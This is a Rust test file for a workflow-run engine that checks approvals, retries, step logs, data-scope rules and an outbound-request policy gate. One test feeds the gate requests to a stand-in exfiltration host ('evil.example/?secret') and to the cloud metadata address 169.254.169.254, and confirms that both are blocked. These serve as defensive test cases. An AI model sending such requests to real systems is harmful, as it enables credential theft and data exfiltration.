//! Runs: what they record, when they are retried, and what blocks them.

mod app_secrets;
mod connection_calls;
mod fake_connections;
mod fixtures;
mod metrics;
mod responses;

use runs::engine::{DataCall, Host};
use serde_json::value::RawValue;

use super::*;
use fixtures::*;

#[tokio::test(start_paused = true)]
async fn code_that_asks_a_person_is_stopped_until_there_is_an_answer() {
    use runs::{approvals::ApprovalAnswer, engine::ApprovalQuestion};
    let asks = || {
        executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
            let question = |title: &str| ApprovalQuestion { title: title.to_owned(), detail: None };
            let refused = host.approval(question("")).await.unwrap_err();
            assert_eq!(refused.code, "approval_unavailable");
            let answer = host.approval(question("Pay?")).await.unwrap();
            host.log(engine::LogLevel::Info, answer.get().to_owned());
            nothing()
        })
    };
    let finished = asks().run(claimed()).await;
    let AttemptOutcome::Wait { number, question, .. } = &finished.outcome else {
        panic!("{:?}", finished.outcome)
    };
    assert_eq!((*number, question.title.as_str()), (0, "Pay?"));
    assert_eq!(finished.steps[0].status, StepStatus::Waiting);
    let answers = vec![ApprovalAnswer { approved: true, expired: false }];
    let finished = asks().run(ClaimedRun { answers, attempt: 2, ..claimed() }).await;
    assert_eq!(finished.outcome, AttemptOutcome::Succeeded);
    assert_eq!(finished.lines[0].message, r#"{"approved":true,"expired":false}"#);
}

#[tokio::test(start_paused = true)]
async fn a_run_records_its_steps_its_log_and_the_minutes_saved() {
    let executor = executor(FakeStore::default(), async |invocation: Invocation, host: Arc<dyn Host>| {
        let HandlerCall::Scheduled(event) = &invocation.handler else { panic!("not a run") };
        assert_eq!((event.trigger.as_str(), event.data.get(), event.attempt), ("webhook", r#"{"id":1}"#, 1));
        assert_eq!(
            invocation.bindings.data,
            ["notes", "readonly"],
            "a project of another workspace is not bound"
        );
        assert_eq!(invocation.bindings.connections, ["crm"]);
        host.log(engine::LogLevel::Info, "begun".into());
        let response = host.fetch(request("GET", "https://api.example.com/v1?key=secret")).await;
        assert_eq!(response.unwrap().status, 200);
        let rows = RawValue::from_string(r#"{"id":"1"}"#.into()).unwrap();
        let inserted = host.data("notes", DataCall::Insert { table: "notes".into(), rows }).await.unwrap();
        assert_eq!(inserted.get(), r#"[{"id":"1"}]"#);
        nothing()
    });
    let finished = executor.run(claimed()).await;
    assert_eq!(finished.outcome, AttemptOutcome::Succeeded);
    assert_eq!(finished.minutes_saved, 12.5);
    let steps = [
        ("Run main.js", StepStatus::Ok, None),
        ("GET api.example.com", StepStatus::Ok, Some("200")),
        ("Insert into notes", StepStatus::Ok, Some("1 row")),
    ];
    assert_eq!(labels(&finished), steps);
    let lines: Vec<_> =
        finished.lines.iter().map(|line| (line.is_from_gate, line.message.as_str())).collect();
    assert_eq!(lines, [(false, "begun"), (true, "GET api.example.com allowed 200 34 ms")]);
}

#[tokio::test(start_paused = true)]
async fn a_request_that_is_dropped_is_recorded() {
    let executor = executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
        let sent = host.fetch(request("GET", "https://api.example.com/v1?key=secret"));
        assert!(tokio::time::timeout(std::time::Duration::from_millis(5), sent).await.is_err());
        nothing()
    });
    let finished = executor.run(claimed()).await;
    assert_eq!(finished.outcome, AttemptOutcome::Succeeded);
    let aborted = ("GET api.example.com", StepStatus::Failed, Some("aborted"));
    assert_eq!(labels(&finished)[1..], [aborted]);
    assert_eq!(finished.lines[0].message, "GET api.example.com refused aborted 5 ms");
}

#[tokio::test(start_paused = true)]
async fn versions_and_gates_are_read_once() {
    // The mock allows one read of the version and, in one run, one of the gates.
    let executor = executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
        for _ in 0..3 {
            host.fetch(request("GET", "https://api.example.com/")).await.map_err(uncaught)?;
        }
        nothing()
    });
    assert_eq!(executor.run(claimed()).await.outcome, AttemptOutcome::Succeeded);
}

#[tokio::test]
async fn a_failure_is_retried_until_the_retries_are_used_up() {
    let executor =
        executor(FakeStore::default(), async |_, _| Err(fail(FailureCode::AppError, "main.js:1: no")));
    let finished = executor.run(claimed()).await;
    let AttemptOutcome::Retry { at, fault } = &finished.outcome else { panic!("{:?}", finished.outcome) };
    assert_eq!(fault.code, "app_error");
    assert!((1000..1500).contains(&(*at - start()).num_milliseconds()));
    assert_eq!(labels(&finished), [("Run main.js", StepStatus::Failed, Some("app_error"))]);
    assert_eq!(finished.minutes_saved, 0.0);
    let finished = executor.run(ClaimedRun { attempt: 2, ..claimed() }).await;
    assert!(matches!(finished.outcome, AttemptOutcome::Failed(_)));
}

#[tokio::test(start_paused = true)]
async fn a_policy_refusal_blocks_the_run_unless_the_code_caught_it() {
    for (url, method, expected, blocked) in [
        ("https://evil.example/?secret", "GET", "egress_denied", true),
        ("https://api.example.com/", "DELETE", "method_denied", true),
        ("http://169.254.169.254/latest", "GET", "private_address", true),
        // The other side failed, which is not a policy refusal.
        ("https://slow.example.com/", "GET", "app_error", false),
    ] {
        let executor = executor(FakeStore::default(), move |_, host: Arc<dyn Host>| async move {
            host.fetch(request(method, url)).await.map_err(uncaught)?;
            nothing()
        });
        let finished = executor.run(claimed()).await;
        assert_eq!(code(&finished.outcome), expected, "{url}");
        assert_eq!(matches!(finished.outcome, AttemptOutcome::Blocked(_)), blocked, "{url}");
        assert!(finished.lines.iter().all(|line| line.is_from_gate && !line.message.contains("secret")));
        let status = if blocked { StepStatus::Blocked } else { StepStatus::Failed };
        assert_eq!(finished.steps[1].status, status);
    }
    let catches = executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
        drop(host.fetch(request("GET", "https://evil.example/")).await);
        // The code claims a refusal that the gate never made.
        Err(Failure { host_code: Some("private_address".into()), ..fail(FailureCode::AppError, "no") })
    });
    let finished = catches.run(ClaimedRun { retries: 0, ..claimed() }).await;
    assert_eq!(code(&finished.outcome), "app_error");
    assert!(finished.lines[0].message.starts_with("GET evil.example refused egress_denied "));
}

#[tokio::test]
async fn rows_stay_within_scopes_and_tables() {
    let executor = executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
        let select = |table: &str| DataCall::Select { table: table.into(), query: String::new() };
        let delete = DataCall::Delete { table: "notes".into(), query: "id=eq.1".into() };
        for (binding, call, expected) in [
            ("notes", select("notes"), "ok"),
            ("notes", select("secrets"), "table_not_found"),
            ("notes", select("nowhere"), "table_not_found"),
            ("notes", DataCall::Delete { table: "notes".into(), query: String::new() }, "filter_required"),
            ("notes", delete.clone(), "ok"),
            ("readonly", select("secrets"), "ok"),
            ("readonly", delete, "forbidden"),
            ("foreign", select("notes"), "project_not_found"),
        ] {
            let text = format!("{binding} {call:?}");
            let answer = host.data(binding, call).await;
            assert_eq!(answer.map_or_else(|error| error.code, |_| "ok".into()), expected, "{text}");
        }
        let get = |id: &str| DataCall::Get { table: "notes".into(), id: id.into() };
        assert_eq!(host.data("notes", get("1")).await.unwrap().get(), r#"{"id":"1"}"#);
        assert_eq!(host.data("notes", get("missing")).await.unwrap().get(), "null");
        let error = host.connection_fetch("crm", request("GET", "/me")).await.unwrap_err();
        assert_eq!(error.code, "not_connected");
        nothing()
    });
    let finished = executor.run(claimed()).await;
    assert_eq!(finished.outcome, AttemptOutcome::Succeeded);
    let through =
        format!("GET through crm ({}) refused not_connected ", id::<kernel::id::kind::Connection>(9));
    assert!(finished.lines[0].message.starts_with(&through), "{:?}", finished.lines[0]);
}

#[tokio::test]
async fn steps_are_bounded() {
    let executor = executor(FakeStore::default(), async |_, host: Arc<dyn Host>| {
        for _ in 0..60 {
            let select = DataCall::Select { table: "notes".into(), query: String::new() };
            host.data("notes", select).await.map_err(uncaught)?;
        }
        nothing()
    });
    let finished = executor.run(claimed()).await;
    assert_eq!(finished.steps.len(), trace::MAX_STEPS);
    assert_eq!(finished.steps[49].label, "12 more calls");
}

#[tokio::test]
async fn a_run_that_cannot_start_runs_no_code() {
    let never = |_, _| async { panic!("it ran") };
    let run = async |store: FakeStore, run: ClaimedRun| {
        let finished = executor(store, never).run(run).await;
        assert!(matches!(finished.outcome, AttemptOutcome::Failed(_)));
        assert!(finished.steps.is_empty());
        code(&finished.outcome).to_owned()
    };
    assert_eq!(run(FakeStore::default(), ClaimedRun { version: None, ..claimed() }).await, "no_version");
    assert_eq!(
        run(FakeStore::default(), ClaimedRun { version: Some(id(99)), ..claimed() }).await,
        "no_version"
    );
    assert_eq!(run(FakeStore::default(), ClaimedRun { attempt: 6, ..claimed() }).await, "lease_lost");
    let paused = ClaimedRun { app_availability: AppAvailability::Paused, ..claimed() };
    assert_eq!(run(FakeStore::default(), paused).await, "app_paused");
    let gone = ClaimedRun { app_availability: AppAvailability::Deleted, ..claimed() };
    assert_eq!(run(FakeStore::default(), gone).await, "app_deleted");
}

#[tokio::test]
async fn failures_of_the_platform_do_not_cost_the_app_its_retries() {
    let executor = executor(FakeStore::unavailable(), |_, _| async { panic!("it ran") });
    let finished = executor.run(ClaimedRun { retries: 0, ..claimed() }).await;
    assert!(matches!(finished.outcome, AttemptOutcome::Retry { .. }), "{:?}", finished.outcome);
}
